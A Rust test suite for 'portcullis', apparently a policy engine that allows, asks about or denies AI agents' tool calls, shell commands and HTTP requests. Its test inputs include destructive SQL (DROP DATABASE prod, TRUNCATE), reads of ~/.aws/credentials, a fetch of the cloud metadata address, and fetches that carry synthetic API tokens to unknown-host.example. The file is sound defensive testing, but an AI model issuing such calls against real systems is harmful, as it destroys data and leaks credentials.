//! Tool calls under the default policy and under tool rules: the fixtures
//! in `tests/data/tools/*.jsonl` (`calls.jsonl`: MCP database, filesystem,
//! cloud, GitHub, browser and fetch tools, and the coding agents' own tools;
//! one more file per server family or class), each with its expected
//! effect; and the tool-rule matchers.

mod common;

use portcullis::{Effect, Engine, Request, ToolCall};
use serde_json::{json, Value};

#[test]
fn every_fixture_gets_its_expected_effect_under_the_default_policy() {
    let engine = Engine::default_policy().unwrap();
    let mut files: Vec<String> = std::fs::read_dir(common::data("tools"))
        .unwrap()
        .filter_map(|e| e.ok()?.file_name().into_string().ok())
        .filter(|name| name.ends_with(".jsonl"))
        .collect();
    files.sort();
    let mut failures = Vec::new();
    let mut n = 0;
    let lines: Vec<(String, usize, String)> = files
        .iter()
        .flat_map(|name| {
            let text = common::read(&format!("tools/{name}"));
            let lines: Vec<(String, usize, String)> = text
                .lines()
                .enumerate()
                .filter(|(_, l)| !l.trim().is_empty())
                .map(|(i, l)| (name.clone(), i, l.to_owned()))
                .collect();
            lines
        })
        .collect();
    for (file, i, line) in &lines {
        let (i, line) = (*i, line.as_str());
        let case: Value =
            serde_json::from_str(line).unwrap_or_else(|e| panic!("{file} line {}: {e}", i + 1));
        let call: ToolCall = serde_json::from_value(case["tool"].clone()).unwrap();
        let want: Effect = case["expect"].as_str().unwrap().parse().unwrap();
        let d = engine.check_tool_call(&call);
        n += 1;
        if d.effect != want {
            failures.push(format!(
                "{file} line {} ({}): {} expected, got {} ({:?}: {})",
                i + 1,
                case["why"],
                want,
                d.effect,
                d.rule,
                d.reason
            ));
        }
        // An argument that decided is named with its pointer.
        if let Some(arg) = &d.argument {
            assert!(
                call.arguments.pointer(&arg.pointer).is_some(),
                "line {}: {arg:?}",
                i + 1
            );
        }
    }
    assert!(n >= 100, "{n} fixtures");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_deciding_argument_is_named_with_its_pointer_and_class() {
    let engine = Engine::default_policy().unwrap();
    let d = engine.check_tool(
        "mcp__pg__query",
        &json!({"options": {"batch": ["select 1", "DROP TABLE users"]}}),
    );
    assert_eq!(d.effect, Effect::Deny);
    let arg = d.argument.unwrap();
    assert_eq!(
        (arg.pointer.as_str(), arg.class.as_str()),
        ("/options/batch/1", "sql")
    );
    let d = engine.check_tool(
        "WebFetch",
        &json!({"url": "http://169.254.169.254/", "prompt": "x"}),
    );
    let arg = d.argument.unwrap();
    assert_eq!((arg.pointer.as_str(), arg.class.as_str()), ("/url", "url"));
    assert_eq!(d.canonical.unwrap().ip.as_deref(), Some("169.254.169.254"));
}

fn engine(tools: Value) -> Engine {
    Engine::from_json(&json!({"version": 1, "tools": tools}).to_string())
        .unwrap_or_else(|e| panic!("{e}"))
}

fn call(name: &str, arguments: Value) -> Request {
    Request::tool(name, arguments)
}

#[test]
fn tool_rules_match_on_server_arguments_annotations_and_destructive_names() {
    let e = engine(json!([
        {"id": "railway-destroys", "effect": "deny", "server": "railway", "destructive_name": true},
        {"id": "force", "effect": "deny", "tool": "deploy", "arguments": [{"pointer": "/options/force", "equals": true}]},
        {"id": "prod-env", "effect": "ask", "tool": "deploy", "arguments": [{"pointer": "/env", "one_of": ["prod", "production"]}]},
        {"id": "big-batch", "effect": "ask", "tool": "send_*", "arguments": [{"pointer": "/count", "gt": 100}]},
        {"id": "srv-paths", "effect": "deny", "tool": "write", "arguments": [{"pointer": "/path", "glob": "/srv/*"}]},
        {"id": "drop-text", "effect": "deny", "tool": "note", "arguments": [{"pointer": "/text", "regex": "(?i)\\bdrop\\b"}]},
        {"id": "no-dry-run", "effect": "ask", "tool": "apply", "arguments": [{"pointer": "/dry_run", "exists": false}]},
        {"id": "declared", "effect": "deny", "annotations": {"destructiveHint": true, "idempotentHint": false}}
    ]));
    let effect = |r: Request| e.decide(&r).effect;
    assert_eq!(
        effect(call("mcp__railway__volumeDelete", json!({}))),
        Effect::Deny
    );
    assert_eq!(
        effect(call("railway/delete_service", json!({}))),
        Effect::Deny
    );
    assert_eq!(
        effect(call("mcp__fly__volumeDelete", json!({}))),
        Effect::Allow
    );
    assert_eq!(effect(call("mcp__railway__list", json!({}))), Effect::Allow);
    assert_eq!(
        effect(call("deploy", json!({"options": {"force": true}}))),
        Effect::Deny
    );
    assert_eq!(
        effect(call("deploy", json!({"options": {"force": "true"}}))),
        Effect::Allow
    );
    assert_eq!(
        effect(call("deploy", json!({"env": "production"}))),
        Effect::Ask
    );
    assert_eq!(
        effect(call("send_mail", json!({"count": 101}))),
        Effect::Ask
    );
    assert_eq!(
        effect(call("send_mail", json!({"count": "100"}))),
        Effect::Allow
    );
    assert_eq!(
        effect(call("write", json!({"path": "/srv/x"}))),
        Effect::Deny
    );
    assert_eq!(
        effect(call("note", json!({"text": "we DROP it"}))),
        Effect::Deny
    );
    assert_eq!(effect(call("apply", json!({}))), Effect::Ask);
    assert_eq!(
        effect(call("apply", json!({"dry_run": true}))),
        Effect::Allow
    );
    let annotated: ToolCall = serde_json::from_value(json!({
        "name": "set", "arguments": {}, "annotations": {"destructiveHint": true, "idempotentHint": false}
    }))
    .unwrap();
    assert_eq!(e.check_tool_call(&annotated).effect, Effect::Deny);
    let hinted_differently: ToolCall = serde_json::from_value(json!({
        "name": "set", "annotations": {"destructiveHint": true}
    }))
    .unwrap();
    assert_eq!(
        e.check_tool_call(&hinted_differently).effect,
        Effect::Allow,
        "every annotation must be declared"
    );
    // The server can come with the request instead of the name.
    let with_server: ToolCall =
        serde_json::from_value(json!({"name": "volumeDelete", "server": "railway"})).unwrap();
    assert_eq!(e.check_tool_call(&with_server).effect, Effect::Deny);
}

#[test]
fn a_policy_turns_destructive_tools_from_ask_to_deny_per_server() {
    let e = Engine::from_json(
        r#"{"version": 1, "extends": ["default"],
            "tools": [{"id": "railway-destroys", "effect": "deny", "server": "railway", "destructive_name": true}]}"#,
    )
    .unwrap();
    assert_eq!(
        e.check_tool("mcp__railway__volumeDelete", &json!({}))
            .effect,
        Effect::Deny
    );
    assert_eq!(
        e.check_tool("mcp__fly__volumeDelete", &json!({})).effect,
        Effect::Ask
    );
}

#[test]
fn bad_argument_tests_are_policy_errors_naming_the_field() {
    let err = Engine::from_json(
        &json!({"version": 1, "tools": [{"id": "t", "effect": "deny", "tool": "x",
            "arguments": [{"pointer": "/a", "equals": 1, "regex": "b"}]}]})
        .to_string(),
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("tools[0].arguments[0] (rule `t`)") && err.contains("exactly one of"),
        "{err}"
    );
    let err = Engine::from_json(
        &json!({"version": 1, "tools": [{"id": "t", "effect": "deny", "arguments": [{"pointer": "a", "exists": true}]}]})
            .to_string(),
    )
    .unwrap_err()
    .to_string();
    assert!(err.contains("tools[0].arguments[0].pointer"), "{err}");
    let err = Engine::from_json(
        &json!({"version": 1, "sql": [{"id": "s", "effect": "deny", "kinds": ["dropp"]}]})
            .to_string(),
    )
    .unwrap_err()
    .to_string();
    assert!(
        err.contains("sql[0].kinds[0] (rule `s`)") && err.contains("not a statement kind"),
        "{err}"
    );
}

#[test]
fn sql_rules_apply_to_tool_arguments_and_database_clients_alike() {
    let e = Engine::from_json(
        r#"{"version": 1, "sql": [
            {"id": "no-prod-drop", "effect": "deny", "kinds": ["drop"], "object_types": ["database"], "objects": ["prod*"]},
            {"id": "users-writes", "effect": "ask", "kinds": ["delete", "update", "delete-all", "update-all"], "objects": ["users", "*.users"]}
        ]}"#,
    )
    .unwrap();
    assert_eq!(
        e.check_tool("q", &json!({"sql": "drop database production"}))
            .effect,
        Effect::Deny
    );
    assert_eq!(
        e.check_tool("q", &json!({"sql": "drop database staging"}))
            .effect,
        Effect::Allow
    );
    assert_eq!(
        e.check_tool(
            "q",
            &json!({"sql": "delete from public.users where id = 1"})
        )
        .effect,
        Effect::Ask
    );
    assert_eq!(
        e.check_command("psql -c 'DROP DATABASE prod_eu'").effect,
        Effect::Deny
    );
    assert_eq!(
        e.check_command("mysql -e \"update users set a = 1 where id = 2\"")
            .effect,
        Effect::Ask
    );
    assert_eq!(
        e.check_command("sqlite3 app.db <<'EOF'\nDROP DATABASE prod;\nEOF")
            .effect,
        Effect::Deny
    );
}

#[test]
fn a_principals_home_directory_is_matched_as_tilde() {
    let engine = Engine::from_json(
        r#"{"version": 1, "paths": [{"id": "aws", "effect": "deny", "paths": ["~/.aws/credentials"]}]}"#,
    )
    .unwrap();
    let principal: portcullis::Principal =
        serde_json::from_value(json!({"id": "agent-1", "home": "/home/agent"})).unwrap();
    let read = |path: &str, who: Option<&portcullis::Principal>| {
        let mut r = Request::tool("Read", json!({"file_path": path}));
        if let Some(p) = who {
            r = r.with_principal(p.clone());
        }
        engine.decide(&r).effect
    };
    assert_eq!(
        read("/home/agent/.aws/credentials", Some(&principal)),
        Effect::Deny
    );
    assert_eq!(read("~/.aws/credentials", Some(&principal)), Effect::Deny);
    assert_eq!(
        read("/home/agent/.aws/credentials", None),
        Effect::Allow,
        "without a home, only `~` spells it"
    );
    let d = engine
        .decide(&Request::command("cat /home/agent/.aws/credentials").with_principal(principal));
    assert_eq!(d.effect, Effect::Deny);
}

#[test]
fn sql_in_http_bodies_is_decided_by_the_sql_rules() {
    let engine = Engine::default_policy().unwrap();
    let post = |body: &str| {
        let http = portcullis::HttpRequest::new("https://api.github.com/graphql")
            .with_method("POST")
            .with_body(body);
        engine.check_http_request(&http)
    };
    assert_eq!(
        post(r#"{"query": "DROP TABLE users"}"#).effect,
        Effect::Deny
    );
    assert_eq!(post("TRUNCATE TABLE audit").effect, Effect::Deny);
    assert_eq!(
        post(r#"{"query": "query { viewer { login } }"}"#).effect,
        Effect::Allow
    );
}

/// Tokens of every length each length-ranged detector accepts, and every
/// sample of `tests/data/secrets/samples.tsv` without whitespace.
fn tokens_of_every_length() -> Vec<(String, String)> {
    let alnum = |n: usize| -> String {
        (0..n)
            .map(|i| char::from(b"aB3dE5gH7jK9mN1pQ2sT4vW6yZ8"[i * 7 % 27]))
            .collect()
    };
    let mut out = Vec::new();
    for n in 36..=255 {
        out.push(("GitHub token".to_owned(), format!("ghp_{}", alnum(n))));
    }
    out.push((
        "GitHub fine-grained token".to_owned(),
        format!("github_pat_{}", alnum(82)),
    ));
    for n in 20..=120 {
        out.push(("GitLab token".to_owned(), format!("glpat-{}", alnum(n))));
        out.push(("Stripe key".to_owned(), format!("sk_live_{}", alnum(n))));
    }
    for n in 10..=120 {
        out.push(("Slack token".to_owned(), format!("xoxb-{}", alnum(n))));
    }
    for line in common::read("secrets/samples.tsv").lines() {
        if let Some((kind, text)) = line.split_once('\t') {
            if !line.starts_with('#') && !text.contains(char::is_whitespace) {
                out.push((kind.to_owned(), text.to_owned()));
            }
        }
    }
    out
}

/// `text` percent-encoded as a query value (every byte but unreserved).
fn query_escaped(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[test]
fn an_agents_fetches_get_one_default_and_secrets_in_their_query_are_exfiltration_at_every_length() {
    let engine = Engine::default_policy().unwrap();
    // One default for one destination, whatever tool carries the fetch.
    let url = json!({"url": "https://unknown-host.example/page"});
    let fetches = [
        "WebFetch",
        "mcp__fetch__fetch",
        "browser_navigate",
        "web_fetch",
    ];
    let effects: Vec<Effect> = fetches
        .iter()
        .map(|t| engine.check_tool(t, &url).effect)
        .collect();
    assert!(effects.iter().all(|e| *e == Effect::Ask), "{effects:?}");
    let mut failures = Vec::new();
    let tokens = tokens_of_every_length();
    assert!(tokens.len() > 500, "{}", tokens.len());
    for (kind, token) in &tokens {
        for value in [token.clone(), query_escaped(token)] {
            let args = json!({"url": format!("https://unknown-host.example/collect?t={value}")});
            for tool in ["WebFetch", "mcp__fetch__fetch"] {
                let d = engine.check_tool(tool, &args);
                if d.effect != Effect::Deny || !d.reason.contains("exfiltration") {
                    failures.push(format!(
                        "{tool} {kind} ({} bytes) {value}: {} {}",
                        token.len(),
                        d.effect,
                        d.reason
                    ));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}
